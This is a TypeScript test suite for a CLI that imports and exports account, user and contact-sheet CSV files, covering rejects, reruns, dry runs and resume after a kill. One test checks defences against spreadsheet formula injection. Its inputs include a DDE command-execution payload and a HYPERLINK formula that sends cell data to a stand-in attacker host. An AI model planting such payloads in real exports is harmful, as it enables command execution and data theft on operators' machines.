import assert from 'node:assert/strict'
import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import fs from 'node:fs'
import path from 'node:path'
import { PassThrough } from 'node:stream'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'

import { parse } from 'csv-parse/sync'
import { type Kysely, sql } from 'kysely'

import { generateImportFiles } from '../../scripts/generate-import.ts'
import { createReportWriter } from '../../src/cli/report-writer.ts'
import type { Database } from '../../src/db/database.ts'
import { checkpointPath } from '../../src/import/checkpoint.ts'
import { USERS_COLUMNS } from '../../src/import/csv-formats.ts'
import { exportCsv } from '../../src/import/export.service.ts'
import { importCsv, type ImportOptions } from '../../src/import/import.service.ts'
import { type ErrorCode, ERRORS } from '../../src/lib/errors.ts'
import { buildTestApp, TEST_SECRET_KEY, type TestApp } from '../helpers/build-test-app.ts'
import { killedAtEnd } from '../helpers/children.ts'
import { cliNodeArgs } from '../helpers/cli-command.ts'
import { DATABASES } from '../helpers/databases.ts'
import { getSheet, makeAccount } from '../helpers/factories.ts'
import { cli, cliDatabase, tempDir } from './cli-harness.ts'

// `import` and `export` of accounts, users and contact sheets as CSV (docs/CSV.md):
// streamed, resumable, bad rows reported with their line and the API's problem, an account
// landing whole or not at all, and a rerun changing nothing.

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..')

const importInto = (app: TestApp, opts: ImportOptions) =>
  importCsv({ db: app.services.db, users: app.services.users, contacts: app.services.contacts }, opts)

/** An export as text. */
async function exportText(db: Kysely<Database>, format: 'users' | 'sheets'): Promise<string> {
  const out = new PassThrough()
  const chunks: Buffer[] = []
  out.on('data', (c: Buffer) => chunks.push(c))
  await exportCsv(db, { format, out })
  return Buffer.concat(chunks).toString('utf8')
}

/** Every account as the API shows it, without what a copy cannot share: dates and versions. */
async function apiView(app: TestApp) {
  const get = async (url: string) => {
    const res = await app.call({ method: 'GET', url })
    assert.equal(res.statusCode, 200, `${url}: ${res.body}`)
    return res.json()
  }
  const view: Record<string, unknown> = {}
  for (const { id, name, locale, allowedEmailDomains } of (await get('/v1/accounts?limit=200')).data) {
    const { version, contactsReviewedAt, ...sheet } = await get(`/v1/accounts/${id}/contacts`)
    const users = (await get(`/v1/accounts/${id}/users?limit=200`)).data.map(
      ({ createdAt, updatedAt, ...u }: Record<string, unknown>) => u,
    )
    view[id] = { account: { name, locale, allowedEmailDomains }, sheet, users }
  }
  return view
}

const count = async (db: Kysely<Database>, table: string) =>
  (await sql<{ n: number }>`select count(*)::int as n from ${sql.table(table)}`.execute(db)).rows[0]!.n

/** What the database holds, in numbers: the same after a rerun or a dry run. */
const census = async (db: Kysely<Database>) =>
  Object.fromEntries(
    await Promise.all(
      ['accounts', 'users', 'contact_slots', 'audit_events', 'events', 'notifications'].map(async (t) => [
        t,
        await count(db, t),
      ]),
    ),
  )

/** The rejects file as line → [code, title, detail]. */
function readRejects(file: string): Map<number, { code: string; title: string; detail: string; cells: string[] }> {
  const [header, ...rows] = parse(fs.readFileSync(file), { relax_column_count: true }) as string[][]
  assert.deepEqual(header!.slice(0, 4), ['line', 'code', 'title', 'detail'])
  return new Map(
    rows.map(([line, code, title, detail, ...cells]) => [
      Number(line),
      { code: code!, title: title!, detail: detail!, cells },
    ]),
  )
}

for (const kind of DATABASES) {
  test(`[${kind}] export, then import into an empty database: the same accounts, users and sheets`, async (t) => {
    const src = await buildTestApp(t, kind)
    const a = await makeAccount(src, { extraUsers: 3, locale: 'fi' })
    const call = async (o: Parameters<TestApp['call']>[0], status = 200) => {
      const res = await src.call(o)
      assert.equal(res.statusCode, status, res.body)
    }
    await call({ method: 'PATCH', url: `/v1/accounts/${a.accountId}`, payload: { name: 'Pohjolan "Puu", Oy' } })
    await call({
      method: 'PUT',
      url: `/v1/accounts/${a.accountId}/users/${a.users.u1}`,
      payload: { email: `${a.users.u1}@example.com`, name: 'Ulla, "U1"', role: 'member', locale: 'fi' },
    })
    await call({
      method: 'PATCH',
      url: `/v1/accounts/${a.accountId}/users/${a.users.u3}`,
      payload: { status: 'deactivated' },
    })
    const sheetA = {
      primary: { userId: a.users.admin },
      billing: [{ userId: a.users.billing }, { userId: a.users.u1 }, { userId: a.users.member }],
      decisionMaker: { userId: a.users.admin },
      onboarding: { userId: a.users.u2 },
      security: { email: 'security@outside.example' },
      technicalAdmin: { userId: a.users.u1 },
    }
    await call({
      method: 'PUT',
      url: `/v1/accounts/${a.accountId}/contacts`,
      headers: { 'if-match': (await getSheet(src, a.accountId)).etag },
      payload: sheetA,
    })
    const b = await makeAccount(src)
    // a typed address of a user is stored as that user, and exported as their id
    await call({
      method: 'PUT',
      url: `/v1/accounts/${b.accountId}/contacts`,
      headers: { 'if-match': '*' },
      payload: { primary: { userId: b.users.admin }, security: { email: `${b.users.member}@example.com` } },
    })
    await call({ method: 'POST', url: '/v1/accounts', payload: { id: 'acc-no-users', name: 'Nobody Ltd' } }, 201)
    await makeAccount(src) // users, no sheet

    const dir = tempDir(t)
    const files = { users: path.join(dir, 'users.csv'), sheets: path.join(dir, 'sheets.csv') }
    for (const format of ['users', 'sheets'] as const)
      fs.writeFileSync(files[format], await exportText(src.handle.db, format))
    assert.match(
      fs.readFileSync(files.users, 'utf8'),
      /^account_id,account_name,account_locale,parent_account_id,user_id,email,name,role,status,locale\n/,
    )
    assert.match(
      fs.readFileSync(files.users, 'utf8'),
      /\nacc-no-users,Nobody Ltd,en,,,,,,,\n/,
      'an account without users has a row of its own',
    )
    assert.match(fs.readFileSync(files.sheets, 'utf8'), /,security@outside\.example,/)

    const dst = await buildTestApp(t, kind)
    const users = await importInto(dst, { file: files.users })
    assert.deepEqual([users.format, users.rejected, users.tally.accountsCreated], ['users', 0, 4])
    const sheets = await importInto(dst, { file: files.sheets })
    assert.deepEqual([sheets.format, sheets.rejected, sheets.tally.sheetsChanged], ['sheets', 0, 2])

    assert.deepEqual(await apiView(dst), await apiView(src))
    for (const format of ['users', 'sheets'] as const)
      assert.equal(
        await exportText(dst.handle.db, format),
        fs.readFileSync(files[format], 'utf8'),
        `${format} export again`,
      )

    // imports are changes like any other: audited, by the system
    const events = (await dst.call({ method: 'GET', url: `/v1/accounts/${a.accountId}/audit-events?limit=50` })).json()
      .data as { action: string; actor: object }[]
    assert.deepEqual(
      events.map((e) => e.action).sort(),
      ['account.created', ...Array(6).fill('user.created'), 'contacts.updated'].sort(),
    )
    for (const e of events) assert.deepEqual(e.actor, { type: 'system', id: 'cli-import' })
  })

  test(`[${kind}] bad rows go to the rejects file with their line and the API's problem; the good ones land`, async (t) => {
    const app = await buildTestApp(t, kind)
    const dir = tempDir(t)
    const usersFile = path.join(dir, 'users.csv')
    const u = (acc: string, id: string, role = 'member', status = 'active', extra = '') =>
      `${acc},${acc} Oy,en,${id},${id}@example.com,${id.toUpperCase()} Name,${role},${status},${extra}`
    fs.writeFileSync(
      usersFile,
      [
        'account_id,account_name,account_locale,user_id,email,name,role,status,locale', // 1
        u('acc-good', 'g1', 'super_admin'), // 2
        u('acc-good', 'g2', 'billing_admin', 'active', 'fi'), // 3
        u('acc-good', 'g3', 'billing_admin', ''), // 4: empty status = active
        u('acc-good', 'g4'), // 5
        u('acc-good', 'g5'), // 6
        u('acc-two', 't1'), // 7
        u('acc-two', 't2'), // 8
        u('acc-two', 't3'), // 9
        u('acc-two', 't4'), // 10
        u('acc-three', 'h1'), // 11
        u('acc-four', 'f1'), // 12
        u('acc-five', 'v1'), // 13
        'acc-five,acc-five Oy,en,v2,v2@example.com,Vera Two,member,deactivated,', // 14
        u('acc-six', 's1'), // 15
        u('acc-bad', 'b1', 'super_admin'), // 16: held back with line 17
        'acc-bad,acc-bad Oy,en,b2,not-an-email,Bob Two,member,active,', // 17: bad email
        u('acc-dup', 'd1'), // 18: held back with line 19
        'acc-dup,acc-dup Oy,en,d2,D1@example.com,Dan Two,member,active,', // 19: the address of d1
        'acc-locale,acc-locale Oy,sv,l1,l1@example.com,Lars,member,active,', // 20
        'acc-role,acc-role Oy,en,r1,r1@example.com,Rita,owner,active,', // 21
        u('acc-good', 'g6'), // 22: acc-good again, apart from its rows
        'acc-short,Short Oy', // 23
      ].join('\n') + '\n',
    )
    const users = await importInto(app, { file: usersFile })
    assert.deepEqual([users.rows, users.changed, users.rejected], [22, 14, 8])
    assert.equal(users.rejectsPath, `${usersFile}.rejects.csv`)
    const userRejects = readRejects(`${usersFile}.rejects.csv`)
    const expectUsers: [number, ErrorCode | 'account-rejected', string][] = [
      [16, 'account-rejected', 'Not imported because line 17 of the same account was rejected.'],
      [17, 'validation-failed', '/email is not a valid email address'],
      [18, 'account-rejected', 'Not imported because line 19 of the same account was rejected.'],
      [19, 'conflict', 'Another active user of this account has this email address.'],
      [20, 'validation-failed', '/account_locale must be one of: en, fi'],
      [21, 'validation-failed', '/role must be one of: super_admin, billing_admin, member'],
      [22, 'conflict', 'The rows of account "acc-good" must be together; it is on line 2 already.'],
      [23, 'validation-failed', 'The row has 2 fields where the header has 9.'],
    ]
    assert.deepEqual(
      [...userRejects].map(([line, r]) => [line, r.code, r.detail]),
      expectUsers,
    )
    for (const [, r] of userRejects)
      if (r.code !== 'account-rejected') assert.equal(r.title, ERRORS[r.code as ErrorCode].title)
    assert.deepEqual(
      userRejects.get(17)!.cells,
      ['acc-bad', 'acc-bad Oy', 'en', 'b2', 'not-an-email', 'Bob Two', 'member', 'active', ''],
      'the row as it was',
    )
    for (const gone of ['acc-bad', 'acc-dup', 'acc-locale', 'acc-role']) {
      assert.equal(
        (await app.call({ method: 'GET', url: `/v1/accounts/${gone}` })).statusCode,
        404,
        `${gone} landed nothing`,
      )
    }
    const good = (await app.call({ method: 'GET', url: '/v1/accounts/acc-good/users' })).json().data as {
      id: string
      status: string
      locale: string | null
    }[]
    assert.deepEqual(
      good.map((x) => [x.id, x.status, x.locale]),
      [
        ['g1', 'active', null],
        ['g2', 'active', 'fi'],
        ['g3', 'active', null],
        ['g4', 'active', null],
        ['g5', 'active', null],
      ],
    )

    // a sheets file with a fourth billing column: the API's own answer to a fourth billing contact
    const sheetsFile = path.join(dir, 'sheets.csv')
    fs.writeFileSync(
      sheetsFile,
      [
        'account_id,primary,billing_1,billing_2,billing_3,billing_4,decision_maker,onboarding,security,technical_admin', // 1
        'acc-good,g1,g2,g3,,,g1,g4,security@outside.example,g5', // 2
        'acc-two,t1,t1,t2,t3,t4,,,,', // 3: four billing contacts
        'acc-three,g1,,,,,,,,', // 4: a user of another account
        'acc-nope,x1,,,,,,,,', // 5: no such account
        'acc-four,f1,,,,,,,sec@@outside.example,', // 6: not an address
        'acc-five,v1,,,,,,v2,,', // 7: a deactivated user
        'acc-six,s1@example.com,,,,,,,,', // 8: an address outside the security slot
        'acc-two,t1,,,,,,,,', // 9: acc-two again
        'acc-three,h1,,,,,,,,', // 10: acc-three again
      ].join('\n') + '\n',
    )
    const before = await census(app.services.db)
    const sheets = await importInto(app, { file: sheetsFile, rejectsPath: path.join(dir, 'sheet-problems.csv') })
    assert.deepEqual([sheets.rows, sheets.changed, sheets.rejected], [9, 1, 8])
    const expectSheets: [number, ErrorCode, string][] = [
      [3, 'billing-contact-limit', '4 billing contacts were sent; an account has at most 3.'],
      [4, 'user-not-in-account', '"g1" is not a user of this account.'],
      [5, 'not-found', 'No account "acc-nope".'],
      [6, 'validation-failed', '/security is not a valid email address'],
      [7, 'user-not-active', 'Vera Two is deactivated and cannot be a contact.'],
      [
        8,
        'external-email-not-allowed',
        'Only the security contact may be an email address; choose a user for this contact.',
      ],
      [9, 'conflict', 'Account "acc-two" is on line 3 already; a sheets file lists an account once.'],
      [10, 'conflict', 'Account "acc-three" is on line 4 already; a sheets file lists an account once.'],
    ]
    assert.deepEqual(
      [...readRejects(path.join(dir, 'sheet-problems.csv'))].map(([line, r]) => [line, r.code, r.detail]),
      expectSheets,
    )
    const sheet = (await getSheet(app, 'acc-good')).sheet
    assert.deepEqual(
      [
        sheet.primary.userId,
        sheet.billing.map((c: { userId: string }) => c.userId),
        sheet.security,
        sheet.technicalAdmin.userId,
      ],
      ['g1', ['g2', 'g3'], { type: 'email', email: 'security@outside.example', verification: 'pending' }, 'g5'],
    )
    for (const id of ['acc-two', 'acc-three', 'acc-four', 'acc-five', 'acc-six']) {
      const s = (await getSheet(app, id)).sheet
      assert.deepEqual([s.primary, s.billing, s.security], [null, [], null], `${id} is untouched`)
    }
    const after = await census(app.services.db)
    assert.equal(after.contact_slots - before.contact_slots, 7, 'only acc-good landed')
    assert.equal(after.notifications - before.notifications, 1, 'the new outside address got its verification mail')
  })

  test(`[${kind}] a rerun of the same files (the real CLI) reports 0 changed and writes nothing`, async (t) => {
    const db = await cliDatabase(t, kind)
    const dir = tempDir(t)
    const { usersFile, sheetsFile } = await generateImportFiles({ accounts: 30, dir })
    const first = await cli(['import', usersFile], db.env)
    assert.equal(first.code, 0, first.stderr)
    assert.match(first.stdout, /\(users file\): 150 rows, 150 changed, 0 unchanged, 0 rejected\./)
    assert.match(first.stdout, /accounts: 30 created, 0 updated, 0 given another parent; users: 150 created, 0 updated/)
    assert.match(first.stderr, /import import-users\.csv: done in/)
    const sheets = await cli(['import', sheetsFile, '--batch', '7'], db.env)
    assert.equal(sheets.code, 0, sheets.stderr)
    assert.match(sheets.stdout, /\(sheets file\): 30 rows, 30 changed/)
    assert.equal(fs.existsSync(checkpointPath(usersFile)), false, 'a finished import leaves no checkpoint')
    const before = await db.use((app) => census(app.services.db))

    for (const file of [usersFile, sheetsFile]) {
      const again = await cli(['import', file], db.env)
      assert.equal(again.code, 0, again.stderr)
      assert.match(again.stdout, /rows, 0 changed, 30 unchanged|rows, 0 changed, 150 unchanged/)
      assert.match(again.stdout, / 0 changed/)
    }
    assert.deepEqual(await db.use((app) => census(app.services.db)), before, 'no audit event, event or mail either')
  })

  test(`[${kind}] --dry-run checks everything and writes nothing`, async (t) => {
    const db = await cliDatabase(t, kind)
    const dir = tempDir(t)
    const { usersFile, sheetsFile } = await generateImportFiles({ accounts: 12, dir })
    const empty = await db.use((app) => census(app.services.db))

    const dry = await cli(['import', usersFile, '--dry-run'], db.env)
    assert.equal(dry.code, 0, dry.stderr)
    assert.match(dry.stdout, /Dry run of .*: 60 rows, 60 would change, 0 unchanged, 0 rejected\./)
    assert.match(dry.stdout, /nothing was written/)
    assert.deepEqual(await db.use((app) => census(app.services.db)), empty)
    assert.equal(fs.existsSync(checkpointPath(usersFile)), false, 'no checkpoint')

    // without the users, every sheet names users that do not exist: the problems a real run would meet
    const drySheets = await cli(['import', sheetsFile, '--dry-run'], db.env)
    assert.equal(drySheets.code, 3, drySheets.stderr)
    assert.match(drySheets.stdout, /12 rows, 0 would change, 0 unchanged, 12 rejected/)
    assert.equal(readRejects(`${sheetsFile}.rejects.csv`).get(2)?.code, 'not-found')

    assert.equal((await cli(['import', usersFile], db.env)).code, 0)
    const landed = await db.use((app) => census(app.services.db))
    const dry2 = await cli(['import', sheetsFile, '--dry-run'], db.env)
    assert.equal(dry2.code, 0, dry2.stderr)
    assert.match(dry2.stdout, /12 rows, 12 would change/)
    assert.equal(fs.existsSync(`${sheetsFile}.rejects.csv`), false, 'the old rejects list is gone')
    assert.deepEqual(
      await db.use((app) => census(app.services.db)),
      landed,
      'no slot, audit event, event or verification mail',
    )
  })
}

for (const kind of DATABASES) {
  // review M5: what a customer admin types into a name must not run when the operator opens an
  // export, a report or a rejects file in a spreadsheet
  test(`[${kind}] cells a spreadsheet would run as formulas are written with a leading quote, and an import reads them back unchanged`, async (t) => {
    const src = await buildTestApp(t, kind)
    const a = await makeAccount(src, { extraUsers: 3 })
    const call = async (o: Parameters<TestApp['call']>[0]) => {
      const res = await src.call(o)
      assert.equal(res.statusCode, 200, res.body)
    }
    const accountName = "=cmd|' /C calc'!A0"
    const names = {
      u1: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      u2: '+1+1',
      u3: "'-already quoted",
      member: "'plain quote",
    }
    await call({ method: 'PATCH', url: `/v1/accounts/${a.accountId}`, payload: { name: accountName } })
    for (const [key, name] of Object.entries(names)) {
      const id = a.users[key as keyof typeof a.users]
      await call({
        method: 'PUT',
        url: `/v1/accounts/${a.accountId}/users/${id}`,
        payload: { email: `${id}@example.com`, name, role: 'member' },
      })
    }
    const dir = tempDir(t)
    const file = path.join(dir, 'users.csv')
    const text = await exportText(src.handle.db, 'users')
    fs.writeFileSync(file, text)
    const cells = (parse(text) as string[][]).flat()
    assert.deepEqual(
      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
      [],
      'no cell starts a formula',
    )
    for (const v of [accountName, ...Object.values(names)])
      assert.ok(
        cells.includes(/^'*[=+\-@]/.test(v) ? `'${v}` : v),
        `${v} written as ${cells.find((c) => c.endsWith(v))}`,
      )

    const dst = await buildTestApp(t, kind)
    assert.equal((await importInto(dst, { file })).rejected, 0)
    assert.deepEqual(await apiView(dst), await apiView(src))
    assert.equal(await exportText(dst.handle.db, 'users'), text)

    // a rejected row's cells go back defused too, ready to be fixed and imported
    const bad = path.join(dir, 'bad.csv')
    fs.writeFileSync(bad, `${USERS_COLUMNS.join(',')}\nacc-f,'=1+1,en,u1,not-an-address,=2+2,member,active,\n`)
    assert.equal((await importInto(dst, { file: bad })).rejected, 1)
    assert.deepEqual(readRejects(`${bad}.rejects.csv`).get(2)?.cells, [
      'acc-f',
      "'=1+1",
      'en',
      'u1',
      'not-an-address',
      "'=2+2",
      'member',
      'active',
      '',
    ])

    // the report's CSV
    const out: string[] = []
    const report = createReportWriter(
      'csv',
      (s) => out.push(s),
      () => {},
    )
    report.add({
      accountId: 'acc-f',
      name: accountName,
      problems: [{ code: 'security-contact-unverified', message: '=1+1@csvf.example has not verified' }],
    } as unknown as Parameters<typeof report.add>[0])
    report.end(1)
    assert.deepEqual((parse(out.join('')) as string[][])[1], [
      'acc-f',
      `'${accountName}`,
      'security-contact-unverified',
      "'=1+1@csvf.example has not verified",
    ])
  })
}

for (const kind of DATABASES) {
  // review M6.1: the unreadable row overtook the header, and the whole import stopped
  test(`[${kind}] a stray quote near the top rejects that row alone; the header is read and the rest lands`, async (t) => {
    const app = await buildTestApp(t, kind)
    const file = path.join(tempDir(t), 'quote-line3.csv')
    const row = (acc: string, name: string) => `${acc},${name},en,u1,u1@${acc}.example,N1,member,active,`
    fs.writeFileSync(
      file,
      [USERS_COLUMNS.join(','), row('q2', 'A'), row('q3', 'O"Brien Oy'), row('q4', 'B')].join('\n') + '\n',
    )
    const summary = await importInto(app, { file })
    assert.deepEqual([summary.rows, summary.rejected, summary.tally.accountsCreated], [3, 1, 2])
    const rejects = readRejects(`${file}.rejects.csv`)
    assert.deepEqual([...rejects.keys()], [3])
    assert.match(rejects.get(3)!.detail, /cannot be read as CSV/)
  })
}

/** Lines of `writeStrayQuotes`' file whose rows cannot be read as CSV (a quote in an unquoted cell). */
const STRAY_QUOTE_LINES = new Set([200, 261, 310])

/**
 * A users file of 319 one-row accounts, three of them with a stray quote. The rows are long, so
 * that the file spans several of the stream's 64 KiB chunks and each bad row (all after the first
 * chunk: the header is another test's) has earlier rows in its own chunk.
 */
function writeStrayQuotes(dir: string): string {
  const file = path.join(dir, 'stray-quotes.csv')
  const pad = 'x'.repeat(190)
  const lines = ['account_id,account_name,account_locale,user_id,email,name,role,status,locale']
  for (let line = 2; line <= 320; line++)
    lines.push(
      `sq${line},${STRAY_QUOTE_LINES.has(line) ? 'O"Brien Oy' : `A ${pad}`},en,u1,u1@sq.example,N ${pad},member,active,`,
    )
  fs.writeFileSync(file, lines.join('\n') + '\n')
  return file
}

for (const kind of DATABASES) {
  // review H1: csv-parse, which the import used to read with, reported a record it could not read
  // ahead of the earlier rows it still buffered; a checkpoint taken on that record claimed rows
  // that had not landed
  test(`[${kind}] every checkpoint is a line up to which every row has landed or been rejected, with rows that cannot be read as CSV in the file`, async (t) => {
    const app = await buildTestApp(t, kind)
    const dir = tempDir(t)
    const file = writeStrayQuotes(dir)
    const bad = STRAY_QUOTE_LINES
    const seen: { line: number; rows: number; rejected: number[] }[] = []
    const progress = {
      // called right after each checkpoint is written: what a kill at this moment would leave
      update() {
        const cp = JSON.parse(fs.readFileSync(checkpointPath(file), 'utf8')) as { line: number; rows: number }
        seen.push({
          line: cp.line,
          rows: cp.rows,
          rejected: fs.existsSync(`${file}.rejects.csv`) ? [...readRejects(`${file}.rejects.csv`).keys()] : [],
        })
      },
      finish() {},
    }
    // a batch of one row: a checkpoint after every record, the bad ones included
    const summary = await importInto(app, { file, batchRows: 1, progress })
    assert.equal(summary.rejected, bad.size)
    assert.equal(seen.length, 319)
    for (const cp of seen) {
      assert.equal(cp.rows, cp.line - 1, `checkpoint at line ${cp.line} claims ${cp.line - 1} rows, ${cp.rows} settled`)
      assert.deepEqual(
        cp.rejected,
        [...bad].filter((l) => l <= cp.line),
        `rejects at line ${cp.line}`,
      )
    }
    assert.equal(await count(app.services.db, 'users'), 319 - bad.size)
  })
}

const skip = process.env.DATABASE_URL
  ? false
  : 'needs DATABASE_URL (PostgreSQL): the import runs in a child process, and PGlite serves one process'

/** `account-contacts import FILE --batch N` as a child process on `app`'s PostgreSQL database, with what it prints. */
function spawnImport(children: Set<ChildProcess>, app: TestApp, dir: string, file: string, batch: number) {
  const child = spawn(process.execPath, cliNodeArgs(['import', file, '--batch', String(batch)]), {
    cwd: root,
    env: {
      ...process.env,
      DATABASE_URL: app.handle.url,
      DATA_DIR: dir,
      SECRET_KEY: TEST_SECRET_KEY,
      LOG_LEVEL: 'warn',
    },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  children.add(child)
  const output: string[] = []
  child.stdout!.on('data', (b: Buffer) => output.push(b.toString()))
  child.stderr!.on('data', (b: Buffer) => output.push(b.toString()))
  const exit = once(child, 'exit') as Promise<[number | null, NodeJS.Signals | null]>
  return { child, exit, output: () => output.join('') }
}

/** The line the import's checkpoint says has landed (0 while there is none). */
function checkpointLine(file: string): number {
  try {
    return (JSON.parse(fs.readFileSync(checkpointPath(file), 'utf8')) as { line: number }).line
  } catch {
    return 0
  }
}

test(
  '[postgres] an import killed with SIGKILL half-way and started again ends as one uninterrupted run',
  { skip },
  async (t) => {
    const children = killedAtEnd(t) // before the databases' cleanup
    const interrupted = await buildTestApp(t, 'postgres')
    const straight = await buildTestApp(t, 'postgres')
    const dir = tempDir(t)
    const ACCOUNTS = 1200
    const { usersFile, sheetsFile } = await generateImportFiles({ accounts: ACCOUNTS, dir })

    const run = (file: string, batch: number) => spawnImport(children, interrupted, dir, file, batch)
    const committedLine = () => checkpointLine(file)
    let file = ''

    for (const [f, batch, lines] of [
      [usersFile, 200, ACCOUNTS * 5 + 1],
      [sheetsFile, 40, ACCOUNTS + 1],
    ] as const) {
      file = f
      // 1. killed without warning once about a quarter of the file has committed
      const first = run(file, batch)
      const end = Date.now() + 60_000
      while (committedLine() < lines / 4) {
        if (first.child.exitCode !== null) assert.fail(`the import ended before it could be killed:\n${first.output()}`)
        if (Date.now() > end) assert.fail(`no progress after 60 s:\n${first.output()}`)
        await new Promise((r) => setTimeout(r, 5))
      }
      first.child.kill('SIGKILL')
      assert.deepEqual((await first.exit)[1], 'SIGKILL')
      const stoppedAt = committedLine()
      assert.ok(stoppedAt > 1 && stoppedAt < lines, `killed mid-way (checkpoint at line ${stoppedAt} of ${lines})`)

      // 2. started again: resumes after the checkpoint and finishes
      const second = run(file, batch)
      const [code] = await second.exit
      assert.equal(code, 0, second.output())
      assert.match(second.output(), /Resuming after line \d+/)
      assert.match(second.output(), /resumed after line/)
      assert.match(second.output(), / 0 rejected\./)
      assert.equal(fs.existsSync(checkpointPath(file)), false)

      // 3. the same file in one go, into the other database
      const once_ = await importInto(straight, { file, restart: true, concurrency: 4 })
      assert.equal(once_.rejected, 0)
    }

    for (const format of ['users', 'sheets'] as const) {
      assert.equal(
        await exportText(interrupted.handle.db, format),
        await exportText(straight.handle.db, format),
        `${format} export`,
      )
    }
    // nothing twice: the batches the kill caught were rolled back, those it did not are not redone
    const actions = (db: Kysely<Database>) =>
      sql<{
        action: string
        n: number
      }>`select action, count(*)::int as n from audit_events group by action order by action`
        .execute(db)
        .then((r) => r.rows)
    assert.deepEqual(await actions(interrupted.handle.db), await actions(straight.handle.db))
    assert.deepEqual(await census(interrupted.handle.db), await census(straight.handle.db))
  },
)

test(
  '[postgres] an import with unreadable rows, killed with SIGKILL at eight points (on and after bad rows too) and resumed each time, loses no row and counts none twice',
  { skip },
  async (t) => {
    const children = killedAtEnd(t) // before the databases' cleanup
    const interrupted = await buildTestApp(t, 'postgres')
    const straight = await buildTestApp(t, 'postgres')
    const dir = tempDir(t)
    const file = writeStrayQuotes(dir)
    const run = () => spawnImport(children, interrupted, dir, file, 1)
    const committedLine = () => checkpointLine(file)
    // killed the moment the checkpoint reaches each point: the bad rows, the lines after them (a
    // resume there once read a bad row again: review L5), and two ordinary ones
    for (const point of [100, ...[...STRAY_QUOTE_LINES].flatMap((l) => [l, l + 1]), 230].sort((a, b) => a - b)) {
      if (committedLine() >= point) continue
      const child = run()
      const end = Date.now() + 60_000
      while (committedLine() < point) {
        if (child.child.exitCode !== null) assert.fail(`the import ended before line ${point}:\n${child.output()}`)
        if (Date.now() > end) assert.fail(`no progress after 60 s:\n${child.output()}`)
        await new Promise((r) => setTimeout(r, 1))
      }
      child.child.kill('SIGKILL')
      assert.deepEqual((await child.exit)[1], 'SIGKILL')
    }
    const last = run()
    const [code] = await last.exit
    assert.equal(code, 3, last.output())
    assert.match(last.output(), /resumed after line/)
    assert.match(
      last.output(),
      /: 319 rows, \d+ changed, \d+ unchanged, 3 rejected\./,
      "the file's rows, each counted once",
    )
    assert.equal(fs.existsSync(checkpointPath(file)), false)
    assert.deepEqual([...readRejects(`${file}.rejects.csv`).keys()], [...STRAY_QUOTE_LINES], 'each bad row listed once')

    const once_ = await importInto(straight, {
      file,
      rejectsPath: path.join(dir, 'straight.rejects.csv'),
      concurrency: 4,
    })
    assert.equal(once_.rejected, 3)
    assert.equal(await count(interrupted.handle.db, 'users'), 319 - STRAY_QUOTE_LINES.size, 'every good row landed')
    assert.equal(await exportText(interrupted.handle.db, 'users'), await exportText(straight.handle.db, 'users'))
  },
)
